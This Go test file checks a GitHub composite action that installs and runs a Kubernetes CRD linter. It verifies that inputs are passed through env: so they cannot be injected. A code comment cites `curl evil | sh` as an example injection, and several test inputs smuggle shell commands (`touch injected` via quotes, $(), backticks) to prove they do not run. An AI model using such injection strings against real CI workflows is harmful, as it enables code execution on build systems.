package main

import (
	"encoding/json"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

// actionFile is what the tests read of action.yml.
type actionFile struct {
	Inputs map[string]struct {
		Default string `json:"default"`
	} `json:"inputs"`
	Runs struct {
		Using string       `json:"using"`
		Steps []actionStep `json:"steps"`
	} `json:"runs"`
}

type actionStep struct {
	Name  string            `json:"name"`
	If    string            `json:"if"`
	Uses  string            `json:"uses"`
	Shell string            `json:"shell"`
	Env   map[string]string `json:"env"`
	Run   string            `json:"run"`
}

// readAction returns action.yml.
func readAction(t *testing.T) actionFile {
	t.Helper()
	var a actionFile
	if err := yaml.Unmarshal(readRoot(t, "action.yml"), &a); err != nil {
		t.Fatalf("action.yml: %v", err)
	}
	if a.Runs.Using != "composite" {
		t.Fatalf("action.yml runs using %q, want composite", a.Runs.Using)
	}
	return a
}

// step returns the step of a named name.
func (a actionFile) step(t *testing.T, name string) actionStep {
	t.Helper()
	for _, s := range a.Runs.Steps {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("action.yml has no step %q", name)
	return actionStep{}
}

// TestActionNoExpressionInRun checks that no input reaches a script but
// through env: an expression in a script is replaced before the shell reads
// it, so that an input such as `"; curl evil | sh; "` would run.
func TestActionNoExpressionInRun(t *testing.T) {
	a := readAction(t)
	runs := 0
	for _, s := range a.Runs.Steps {
		if strings.Contains(s.Run, "${{") {
			t.Errorf("step %q has an expression in run:, pass it through env:", s.Name)
		}
		if s.Run != "" {
			runs++
		}
	}
	if runs < 2 {
		t.Errorf("action.yml has %d run steps, want the install and the lint", runs)
	}
	upload := a.step(t, "Upload SARIF")
	if !strings.HasPrefix(upload.Uses, "github/codeql-action/upload-sarif@") || !strings.Contains(upload.If, "always()") {
		t.Errorf("step Upload SARIF uses %q if %q, want github/codeql-action/upload-sarif if always()", upload.Uses, upload.If)
	}
}

// fakeGo returns a directory holding a go command that records its
// arguments and GOBIN, one a line, in the file it returns.
func fakeGo(t *testing.T) (dir, log string) {
	dir = t.TempDir()
	log = filepath.Join(dir, "go.log")
	script := "#!/bin/sh\nprintf '%s\\n' \"GOBIN=$GOBIN\" \"$@\" >" + "'" + log + "'\n"
	if err := os.WriteFile(filepath.Join(dir, "go"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return dir, log
}

func TestActionInstall(t *testing.T) {
	a := readAction(t)
	for _, version := range []string{"", "v1.2.3", `latest"; touch injected; echo "`} {
		goDir, log := fakeGo(t)
		r := stepRun{path: []string{goDir}, dir: t.TempDir()}
		want := "latest"
		if version != "" {
			r.inputs, want = map[string]string{"version": version}, version
		}
		r.run(t, a, a.step(t, "Install kubeversion"))
		data, err := os.ReadFile(log)
		if r.status != 0 || err != nil {
			t.Fatalf("version %q: exit status %d, go not run (%v)\n%s", version, r.status, err, r.output)
		}
		bin := filepath.Join(r.temp, "kubeversion-bin")
		wantLog := "GOBIN=" + bin + "\ninstall\ngithub.com/kubeversion/kubeversion/cmd/kubeversion@" + want + "\n"
		if string(data) != wantLog {
			t.Errorf("version %q: go ran with\n%s\nwant\n%s", version, data, wantLog)
		}
		if r.ghPath != bin+"\n" {
			t.Errorf("version %q: GITHUB_PATH got %q, want %q", version, r.ghPath, bin+"\n")
		}
		if _, err := os.Stat(filepath.Join(r.dir, "injected")); err == nil {
			t.Errorf("version %q ran a command", version)
		}
	}
}

// commandDir returns a directory that holds kubeversion: the link to this
// test binary that build makes, which runs as the command.
func commandDir(t *testing.T) string {
	t.Helper()
	return filepath.Dir(build(t))
}

// TestActionLint runs the step Lint with the command under test on PATH.
func TestActionLint(t *testing.T) {
	a := readAction(t)
	commands := commandDir(t)
	var help strings.Builder
	run(&env{strings.NewReader(""), &help, io.Discard}, []string{"lint", "--help"})
	sarif := strings.Contains(help.String(), "sarif")
	dir := filepath.Join("testdata", "manifests")
	for _, tt := range []struct {
		name   string
		inputs map[string]string
		status int
		output string // in the step's output
	}{
		{"valid", map[string]string{"paths": "manifests/operator.yaml"}, 0, "::notice"},
		{"invalid", map[string]string{"paths": "manifests/operator.yaml\n  manifests/invalid.yaml"}, 1, "::error file=manifests/invalid.yaml"},
		{"old", map[string]string{"paths": "gadgets-v1.yaml", "old": "gadgets-live.yaml"}, 1, "field-removed"},
		{"args", map[string]string{"paths": "gadgets-v1.yaml", "old": "gadgets-live.yaml", "args": "--check all=off"}, 0, "::notice"},
		{"no path", map[string]string{"paths": "manifests/missing.yaml"}, 2, "missing.yaml"},
		{"injection", map[string]string{"paths": "manifests/operator.yaml", "args": "$(touch injected) `touch injected`"}, 2, "injected"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			work := t.TempDir()
			if err := os.CopyFS(filepath.Join(work, "manifests"), os.DirFS(dir)); err != nil {
				t.Fatal(err)
			}
			for _, name := range []string{"gadgets-v1.yaml", "gadgets-live.yaml"} {
				data, err := os.ReadFile(filepath.Join("..", "..", "examples", name))
				if err == nil {
					err = os.WriteFile(filepath.Join(work, name), data, 0o644)
				}
				if err != nil {
					t.Fatal(err)
				}
			}
			r := stepRun{inputs: tt.inputs, path: []string{commands}, dir: work}
			r.run(t, a, a.step(t, "Lint"))
			if r.status != tt.status || !strings.Contains(r.output, tt.output) {
				t.Errorf("inputs %q: exit status %d, output\n%s\nwant status %d and %q", tt.inputs, r.status, r.output, tt.status, tt.output)
			}
			if _, err := os.Stat(filepath.Join(work, "injected")); err == nil {
				t.Errorf("inputs %q ran a command", tt.inputs)
			}
			if tt.status == 2 {
				return // lint stopped before its report
			}
			if !strings.Contains(r.summary, "## kubeversion lint") || !strings.Contains(r.summary, "| CRD |") {
				t.Errorf("inputs %q: the step summary is\n%s\nwant lint's Markdown", tt.inputs, r.summary)
			}
			data, err := os.ReadFile(filepath.Join(work, "kubeversion.sarif"))
			if !sarif {
				t.Logf("kubeversion lint has no -o sarif yet: the SARIF file is not checked")
				return
			}
			var log struct {
				Version string `json:"version"`
			}
			if err != nil || json.Unmarshal(data, &log) != nil || log.Version != "2.1.0" {
				t.Errorf("inputs %q: kubeversion.sarif (%v) is not SARIF 2.1.0:\n%s", tt.inputs, err, data)
			}
		})
	}
}

// TestActionInputs checks that the inputs of the brief exist with their
// defaults, and that the steps use each.
func TestActionInputs(t *testing.T) {
	a := readAction(t)
	want := map[string]string{"paths": ".", "old": "", "version": "latest", "sarif": "kubeversion.sarif", "args": ""}
	used := map[string]bool{}
	for _, s := range a.Runs.Steps {
		for _, v := range s.Env {
			for _, m := range inputExpr.FindAllStringSubmatch(v, -1) {
				used[m[1]] = true
			}
		}
	}
	for name, def := range want {
		in, ok := a.Inputs[name]
		if !ok || in.Default != def {
			t.Errorf("input %s: declared %v with default %q, want default %q", name, ok, in.Default, def)
		}
		if !used[name] {
			t.Errorf("input %s reaches no step through env:", name)
		}
	}
	if names := slices.Sorted(maps.Keys(a.Inputs)); !slices.Contains(names, "go-version") {
		t.Errorf("inputs %q: want go-version too", names)
	}
}
